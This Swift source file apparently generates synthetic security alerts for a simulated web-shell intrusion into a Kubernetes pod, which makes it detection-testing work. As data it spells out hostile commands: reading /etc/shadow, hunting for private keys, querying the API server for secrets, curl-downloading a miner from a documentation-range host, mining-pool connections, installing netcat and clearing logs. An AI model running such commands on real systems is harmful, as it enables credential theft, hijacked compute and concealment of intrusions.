/// An intrusion into one pod of a generated cluster: its alerts, and where it takes place.
package struct Intrusion: Sendable {
    /// Its alerts, in order; merge them into a quiet day by ``AlertStream/merging(_:)``.
    package let alerts: AlertStream
    package let namespace: String
    package let workload: String
    package let pod: String
    package let container: String
    package let containerID: String
    package let node: String
    /// Names of the rules that fire, in the order of the alerts.
    package let rules: [String]
}

extension AlertGenerator {
    private struct Step {
        let second: Int64
        let rule: AlertRule
        let process: ProcessShape
    }

    /// Makes the alerts of somebody who comes in through a web shell of the legacy CRM.
    ///
    /// A shell with a terminal, credentials read and searched, a tool fetched, the tool run (drift), connections to an
    /// address never seen before, logs cleared: thirteen alerts within eight minutes.
    ///
    /// - Parameter nanoseconds: Event time of the first alert, in nanoseconds since 1970.
    /// - Returns: The alerts and the pod; the pod belongs to the cluster of ``quietDay(alerts:)`` with this seed.
    package func intrusion(at nanoseconds: Int64) -> Intrusion {
        let workload =
            cluster.workloads.first { $0.pods[0].kind.name == WorkloadKind.legacyCRM.name } ?? cluster.workloads[0]
        let pod = workload.pods[0]
        var stream = AlertStream()
        var clock = EventTimeText()
        var generator = SeededGenerator(seed: seed).split(4)
        let steps = Self.steps
        for step in steps {
            let time = nanoseconds + step.second * 1_000_000_000 + Int64(generator.below(900_000_000))
            let template = pod.template(step.rule, step.process, isExtended: cluster.shape.isExtended)
            stream.append(at: time, isIntrusion: true) { buffer in
                template.render(at: time, clock: &clock, generator: &generator, to: &buffer)
            }
        }
        return Intrusion(
            alerts: stream,
            namespace: pod.namespace,
            workload: pod.workload,
            pod: pod.pod,
            container: pod.kind.container,
            containerID: pod.containerID,
            node: pod.node,
            rules: steps.map(\.rule.name)
        )
    }

    /// A command typed into the intruder's terminal.
    private static func typed(
        _ name: String,
        _ path: String,
        _ commandLine: String,
        touching object: String? = nil,
        remotePort: Int64? = nil,
        eventType: String = "execve"
    ) -> ProcessShape {
        ProcessShape(
            name: name,
            path: path,
            parent: "bash",
            commandLine: commandLine,
            tty: 34_817,
            directory: "/tmp",
            parentPath: "/usr/bin/bash",
            parentCommandLine: "bash -i",
            ancestors: ["sh", "apache2", "containerd-shim", "systemd"],
            eventType: eventType,
            object: object,
            remotePort: remotePort
        )
    }

    private static func connection(_ process: String, _ path: String, _ remote: String, _ port: Int64) -> ProcessShape {
        typed(
            process,
            path,
            "\(process) -o stratum+tcp://\(remote):\(port) --tls",
            touching: "\(AlertPod.address):\(AlertSlot.port)->\(remote):\(port)",
            remotePort: port,
            eventType: "connect"
        )
    }

    /// Addresses are of the documentation range (RFC 5737).
    private static var steps: [Step] {
        let tool = "/tmp/.cache/kworkerds"
        let shell = ProcessShape(
            name: "bash",
            path: "/usr/bin/bash",
            parent: "sh",
            commandLine: "bash -i",
            tty: 34_817,
            directory: "/var/www/html/uploads",
            parentPath: "/bin/dash",
            parentCommandLine: "sh -c /tmp/.s",
            ancestors: ["apache2", "containerd-shim", "systemd"]
        )
        return [
            Step(second: 0, rule: .terminalShell, process: shell),
            Step(
                second: 24,
                rule: .readSensitiveFile,
                process: typed("cat", "/usr/bin/cat", "cat /etc/shadow", touching: "/etc/shadow", eventType: "openat")
            ),
            Step(
                second: 41,
                rule: .searchKeys,
                process: typed("find", "/usr/bin/find", "find / -name id_rsa -o -name *.pem")
            ),
            Step(
                second: 58,
                rule: .searchKeys,
                process: typed("grep", "/usr/bin/grep", "grep -r BEGIN PRIVATE KEY /var/www /home /root")
            ),
            Step(
                second: 95,
                rule: .contactAPIServer,
                process: typed(
                    "curl",
                    "/usr/bin/curl",
                    "curl -sk https://10.96.0.1/api/v1/secrets",
                    touching: "\(AlertPod.address):\(AlertSlot.port)->10.96.0.1:443",
                    remotePort: 443,
                    eventType: "connect"
                )
            ),
            Step(
                second: 130,
                rule: .fileCopyTool,
                process: typed("curl", "/usr/bin/curl", "curl -fsSL http://203.0.113.66/x86_64/k -o \(tool)")
            ),
            Step(second: 148, rule: .dropAndExecute, process: typed("kworkerds", tool, "kworkerds --version")),
            Step(
                second: 151,
                rule: .dropAndExecute,
                process: typed("kworkerds", tool, "kworkerds -B --donate-level 0")
            ),
            Step(second: 155, rule: .outboundConnection, process: connection("kworkerds", tool, "203.0.113.77", 4_444)),
            Step(second: 215, rule: .outboundConnection, process: connection("kworkerds", tool, "203.0.113.78", 4_444)),
            Step(second: 276, rule: .outboundConnection, process: connection("kworkerds", tool, "198.51.100.9", 3_333)),
            Step(
                second: 402,
                rule: .packageManagement,
                process: typed("apt-get", "/usr/bin/apt-get", "apt-get install -y nmap netcat-openbsd")
            ),
            Step(
                second: 460,
                rule: .clearLogs,
                process: typed(
                    "bash",
                    "/usr/bin/bash",
                    "bash -c : > /var/log/apache2/access.log",
                    touching: "/var/log/apache2/access.log",
                    eventType: "openat"
                )
            ),
        ]
    }
}
